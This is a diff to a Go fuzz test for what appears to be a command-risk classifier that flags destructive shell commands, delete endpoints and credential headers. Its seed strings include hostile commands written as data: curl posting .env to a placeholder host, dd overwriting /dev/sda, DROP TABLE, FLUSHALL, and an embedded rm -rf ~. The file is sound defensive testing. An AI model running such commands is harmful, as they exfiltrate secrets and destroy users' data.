@@ -18,6 +18,8 @@ func FuzzClassify(f *testing.F) {
 		"psql\x1f-c\x1fDROP TABLE t; SELECT 'a;b'", "redis-cli\x1fFLUSHALL", "curl\x1f-d\x1f@.env\x1fhttp://x",
 		"dd\x1fif=/dev/zero\x1fof=/dev/sda", "kill\x1f-9\x1f-1", "docker\x1frun\x1f--privileged\x1f-v\x1f/:/h\x1fimg",
 		"sed\x1f-i\x1fs/a/b/\x1f~/.bashrc", "git\x1fpush\x1f--forc\x1f+main", "-\x1f--\x1f-", "\x1f\x1f",
+		"kubectl\x1fdelete\x1fns\x1fx\x1f--dry-run=none", "curl\x1f-H\x1fCookie: a\x1fhttps://x/_close",
+		"aws\x1fs3\x1frm\x1fhelp", "gh\x1fapi\x1f-X\x1fGET\x1frepos/o/r", "apt-get\x1f-s\x1finstall\x1fx",
 	} {
 		f.Add(seed, "", "", uint8(0))
 		f.Add(seed, ">", "import os; os.system('rm -rf ~')", uint8(7))
@@ -71,3 +73,23 @@ func fuzzCommand(argv, redirect, code string, bits uint8) *shell.Command {
 }
 
 var _ = risk.Read
+
+// FuzzRemoteReadScanners feeds random URLs and headers to the scanners
+// that decide whether a request only reads. They must not panic; a /delete
+// segment anywhere in a URL's path is a change, and an Authorization
+// header carries a credential, whatever surrounds them.
+func FuzzRemoteReadScanners(f *testing.F) {
+	for _, seed := range []string{"https://x/_close", "http://h/a?action=UNLOAD&core=x", "Authorization: Bearer t",
+		"X-Api-Key: k", "Accept: */*", "https://x/settings/closest", "", "/", "?", "://", "delete"} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		_, _ = secretHeader(s), changeEndpoint(s)
+		if u := "https://h/" + s + "/delete"; !changeEndpoint(u) {
+			t.Fatalf("changeEndpoint(%q) = false, want true", u)
+		}
+		if h := "Authorization:" + s; !secretHeader(h) {
+			t.Fatalf("secretHeader(%q) = false, want true", h)
+		}
+	})
+}
